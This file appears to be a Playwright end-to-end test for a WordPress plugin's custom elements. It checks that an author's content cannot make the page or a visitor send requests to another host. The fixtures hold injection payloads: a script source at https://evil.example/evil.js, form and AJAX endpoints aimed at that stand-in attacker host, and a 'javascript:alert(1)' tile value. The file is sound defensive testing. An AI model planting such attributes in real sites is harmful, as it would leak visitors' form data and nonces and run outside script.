// Trust, on the test site of `npm run test:wp`: an author (no unfiltered_html) saves, through the REST API as the
// block editor does, elements whose attributes point at another host, as raw tags, as shortcodes and as blocks; a
// visitor uses each (searches, sends the form, signs up, rates, scrolls the PDF and the map into view) while every
// request to another host is recorded and answered here. None may go to the author's host. The same content saved
// by the administrator, with that host allowed in the settings, reaches it as the administrator meant.
import { png } from "./stand-ins.mjs";

const EVIL = "evil.example";
const PARTNER = "partner.example";

/** The cases, each an element with attributes that point at HOST and its content (its fallback). */
const CASES = [
  { tag: "x-ai-search", attributes: { "script-src": "https://HOST/evil.js", "project-id": "p", "project-key": "k" }, content: "Search" },
  { tag: "x-contact-form", attributes: { "form-id": "5", "api-root": "https://HOST/wp-json/" }, content: '[contact-form-7 id="5"]' },
  { tag: "x-newsletter-form", attributes: { action: "https://HOST/collect" }, content: '[mc4wp_form id="7"]' },
  { tag: "x-rating", attributes: { "ajax-url": "https://HOST/wp-admin/admin-ajax.php" }, content: "Rate this post" },
  {
    tag: "x-pdf",
    attributes: { viewer: "browser", "viewer-url": "https://HOST/viewer.html", src: "/guide.pdf" },
    content: '<a href="/guide.pdf">The guide</a>',
  },
  {
    tag: "x-map",
    attributes: { address: "Paris", geocoder: "https://HOST/search?q={query}", tiles: "javascript:alert(1)//{z}/{x}/{y}" },
    content: "A map",
  },
  { tag: "x-comment-reply", attributes: { action: "https://HOST/wp-comments-post.php" }, content: "Comments" },
  {
    tag: "x-slider",
    attributes: { source: "https://HOST/wp-json/sliderrevolution/sliders/hero?srengine=7&alias=true" },
    content: "<p>First slide</p><p>Second slide</p>",
  },
];

const withHost = (value, host) => value.replaceAll("HOST", host);
const camel = (name) => name.replace(/-([a-z])/g, (_, letter) => letter.toUpperCase());
const quoted = (value) => `"${value.replaceAll("&", "&amp;").replaceAll('"', "&quot;")}"`;

/** The cases as post content: raw tags (in Custom HTML blocks), shortcodes (in Shortcode blocks) or x-elements blocks. */
function contentOf(kind, host) {
  return CASES.map(({ tag, attributes, content }) => {
    const pairs = Object.entries(attributes).map(([name, value]) => [name, withHost(value, host)]);
    if (kind === "html") {
      const open = `<${tag}${pairs.map(([name, value]) => ` ${name}=${quoted(value)}`).join("")}>`;
      return `<!-- wp:html -->\n${open}${content}</${tag}>\n<!-- /wp:html -->`;
    }
    if (kind === "shortcode") {
      const open = `[${tag}${pairs.map(([name, value]) => ` ${name}=${quoted(value)}`).join("")}]`;
      return `<!-- wp:shortcode -->\n${open}${content}[/${tag}]\n<!-- /wp:shortcode -->`;
    }
    const name = `x-elements/${tag.slice(2)}`;
    const json = JSON.stringify(Object.fromEntries(pairs.map(([key, value]) => [camel(key), value])));
    const inner = content.startsWith("[")
      ? `<!-- wp:shortcode -->\n${content}\n<!-- /wp:shortcode -->`
      : `<!-- wp:html -->\n${content}\n<!-- /wp:html -->`;
    return `<!-- wp:${name} ${json} -->\n${inner}\n<!-- /wp:${name} -->`;
  }).join("\n\n");
}

/** A context of its own for the user, logged in, on the block editor's page. */
async function logIn(browser, origin, user, password) {
  const context = await browser.newContext();
  const page = await context.newPage();
  await page.goto(`${origin}/wp-login.php`);
  await page.fill("#user_login", user);
  await page.fill("#user_pass", password);
  await Promise.all([page.waitForURL(/wp-admin/), page.click("#wp-submit")]);
  // The REST API with the editor's own client and nonce (wp.apiFetch), as the block editor saves a post.
  await page.goto(`${origin}/wp-admin/post-new.php`);
  await page.waitForFunction(() => typeof window.wp?.apiFetch === "function", null, { timeout: 30_000 });
  return { page, close: () => context.close() };
}

/** Publishes a post through the REST API; returns its link and its content as stored. */
function publish(page, title, content) {
  return page.evaluate(
    async ({ title, content }) => {
      const post = await window.wp.apiFetch({ path: "/wp/v2/posts", method: "POST", data: { title, content, status: "publish" } });
      const stored = await window.wp.apiFetch({ path: `/wp/v2/posts/${post.id}?context=edit` });
      return { link: post.link, raw: stored.content.raw };
    },
    { title, content },
  );
}

/** A visitor's context: every request to another host recorded, and answered here (a stand-in for that host). */
async function visitorContext(browser) {
  const context = await browser.newContext({ reducedMotion: "reduce" });
  const outside = [];
  await context.route(
    (url) => url.hostname !== "127.0.0.1",
    (route) => {
      const request = route.request();
      outside.push({ url: request.url(), method: request.method(), body: request.postData() ?? "" });
      const { pathname } = new URL(request.url());
      const headers = { "access-control-allow-origin": "*" };
      if (pathname.endsWith(".png")) return route.fulfill({ status: 200, contentType: "image/png", headers, body: png(256, 256, [170, 211, 223]) });
      if (pathname.endsWith(".js")) return route.fulfill({ status: 200, contentType: "text/javascript", headers, body: "" });
      if (pathname.endsWith(".html"))
        return route.fulfill({ status: 200, contentType: "text/html", headers, body: "<!doctype html><title>Viewer</title>" });
      return route.fulfill({ status: 200, contentType: "application/json", headers, body: "[]" });
    },
  );
  return { context, outside };
}

/** Waits for something an action should bring, without failing when it does not come (the checks say what came). */
const soon = (promise) => promise.catch(() => null);

/** Ticks the boxes a form requires (a consent, the terms), as a visitor must before sending it. */
const tickRequired = (page, form) =>
  page.evaluate((selector) => {
    for (const box of document.querySelectorAll(`${selector} input[type=checkbox]`)) {
      const required = box.required || box.closest(".wpcf7-acceptance, .wpcf7-validates-as-required");
      if (required && !box.checked) box.click();
    }
  }, form);

/** What a visitor does with each element of the page; each step waits for the request it should bring, at most 5 s. */
async function actOnEveryElement(page) {
  await page.waitForFunction(
    () => ["x-ai-search", "x-contact-form", "x-rating"].every((tag) => document.querySelector(tag)?.matches(":defined")),
    null,
    {
      timeout: 15_000,
    },
  );
  // Search.
  const search = page.locator("x-ai-search input").first();
  await search.fill("opening hours");
  await search.press("Enter");
  await soon(page.waitForFunction(() => document.querySelector("x-ai-search script[src]"), null, { timeout: 5_000 }));
  // Send the contact form.
  const name = page.locator('x-contact-form input[name="your-name"]').first();
  if (await name.count()) {
    await name.fill("Ada");
    await page
      .locator('x-contact-form input[name="your-email"]')
      .first()
      .fill("ada@example.org")
      .catch(() => {});
    await tickRequired(page, "x-contact-form");
    const sent = soon(
      page.waitForResponse((response) => response.request().method() === "POST" && /contact-form-7/.test(response.url()), { timeout: 5_000 }),
    );
    await page
      .locator("x-contact-form input[type=submit]")
      .first()
      .click({ timeout: 5_000 })
      .catch(() => {});
    await sent;
  }
  // Sign up.
  const email = page.locator('x-newsletter-form input[name="EMAIL"]').first();
  if (await email.count()) {
    await email.fill("ada@example.org");
    await tickRequired(page, "x-newsletter-form");
    const signed = soon(page.waitForResponse((response) => response.request().method() === "POST", { timeout: 5_000 }));
    await page
      .locator("x-newsletter-form [type=submit]")
      .first()
      .click({ timeout: 5_000 })
      .catch(() => {});
    await signed;
  }
  // Rate, and wait for the answer (the page closes after these steps).
  const rated = soon(
    page.waitForResponse((response) => /process_rating/.test(response.request().postData() ?? ""), {
      timeout: 5_000,
    }),
  );
  await page
    .locator('x-rating [part~="star"]')
    .nth(4)
    .click({ timeout: 5_000 })
    .catch(() => {});
  await rated;
  // The PDF and the map in view.
  await page.locator("x-pdf").scrollIntoViewIfNeeded();
  await soon(page.waitForFunction(() => document.querySelector("x-pdf")?.shadowRoot?.querySelector("iframe"), null, { timeout: 5_000 }));
  await page.locator("x-map").scrollIntoViewIfNeeded();
  await soon(page.waitForFunction(() => document.querySelector("x-map")?.shadowRoot?.querySelector(".leaflet-container"), null, { timeout: 10_000 }));
}

/** The frames the page opened, and its x- elements' attributes, as they are now. */
const pageState = (page) =>
  page.evaluate(() => ({
    frames: [...document.querySelectorAll("*")].flatMap((el) => [...(el.shadowRoot?.querySelectorAll("iframe") ?? [])].map((frame) => frame.src)),
    attributes: [...document.querySelectorAll("*")]
      .filter((el) => el.localName.startsWith("x-"))
      .map((el) => `${el.localName} ${[...el.attributes].map((a) => `${a.name}=${a.value}`).join(" ")}`),
  }));

/** The test site's users; a real site's trial passes its own. */
const TEST_USERS = { author: ["author", "author-password"], admin: ["admin", "admin-password"] };

export async function trustChecks({ browser, site, record, tweak, users = TEST_USERS }) {
  const origin = new URL(site.elements).origin;
  try {
    // As the author.
    const author = await logIn(browser, origin, ...users.author);
    const posts = {};
    for (const kind of ["html", "shortcode", "block"]) {
      posts[kind] = await publish(author.page, `Author's ${kind} pointing elsewhere`, contentOf(kind, EVIL));
    }
    record(
      "an author's saved tags and blocks keep no address of another host and no javascript: address (Kses)",
      !posts.html.raw.includes(EVIL) && !posts.block.raw.includes(EVIL) && !/javascript:/i.test(posts.html.raw + posts.block.raw),
      JSON.stringify({ html: posts.html.raw, block: posts.block.raw }),
    );
    await author.close();

    for (const kind of ["html", "shortcode", "block"]) {
      const { context, outside } = await visitorContext(browser);
      const page = await context.newPage();
      const warnings = [];
      page.on("console", (message) => message.type() === "warning" && warnings.push(message.text()));
      const response = await page.goto(posts[kind].link, { waitUntil: "load" });
      const html = (await response?.text()) ?? "";
      await actOnEveryElement(page);
      const state = await pageState(page);
      const toEvil = outside.filter(({ url }) => new URL(url).hostname === EVIL);
      record(
        `an author's ${kind}: the page names no other host, and a visitor who uses every element sends nothing there`,
        !html.includes(EVIL) && toEvil.length === 0 && !state.frames.some((src) => src.includes(EVIL)),
        JSON.stringify({ toEvil, frames: state.frames, inPage: html.includes(EVIL) }),
      );
      const sent = outside.length === 0 ? [] : outside.map(({ url }) => new URL(url).hostname);
      const rating = state.attributes.find((line) => line.startsWith("x-rating "));
      record(
        `an author's ${kind}: the elements use the site's own endpoints (the rating its nonce), with no warning`,
        /ajax-url=http:\/\/127\.0\.0\.1/.test(rating ?? "") && /nonce=\w/.test(rating ?? "") && !warnings.some((text) => text.includes("is refused")),
        JSON.stringify({ rating, warnings, sent }),
      );
      await context.close();
    }

    // As the administrator, with the partner's host allowed: the same content works as meant.
    tweak("allowed-hosts", PARTNER);
    const admin = await logIn(browser, origin, ...users.admin);
    const adminPost = await publish(admin.page, "Administrator's partner services", contentOf("html", PARTNER));
    await admin.close();
    const { context, outside } = await visitorContext(browser);
    const page = await context.newPage();
    const warnings = [];
    page.on("console", (message) => message.type() === "warning" && warnings.push(message.text()));
    await page.goto(adminPost.link, { waitUntil: "load" });
    const meta = await page.evaluate(() => document.head.querySelector('meta[name="x-elements-allowed-hosts"]')?.content ?? null);
    record("the allowed hosts of the settings are printed for the elements", meta === PARTNER, JSON.stringify(meta));
    await actOnEveryElement(page);
    const state = await pageState(page);
    const reached = outside.filter(({ url }) => new URL(url).hostname === PARTNER).map(({ method, url }) => `${method} ${new URL(url).pathname}`);
    const expected = [
      "GET /evil.js",
      "/wp-json/contact-form-7/v1/contact-forms/5/",
      "POST /collect",
      "POST /wp-admin/admin-ajax.php",
      "GET /search",
      "GET /wp-json/sliderrevolution/sliders/hero",
    ];
    record(
      "an administrator's endpoints, script and frame on an allowed host are used as written",
      expected.every((part) => reached.some((line) => line.includes(part))) &&
        state.frames.some((src) => src.startsWith(`https://${PARTNER}/viewer.html`)),
      JSON.stringify({ reached, frames: state.frames, warnings }),
    );
    const rating = state.attributes.find((line) => line.startsWith("x-rating ")) ?? "";
    record(
      "no nonce of the site is given to a rating whose endpoint is another host",
      rating.includes(`ajax-url=https://${PARTNER}/`) && !/ nonce=/.test(rating),
      rating,
    );
    await context.close();
  } finally {
    tweak("allowed-hosts", "");
  }
}
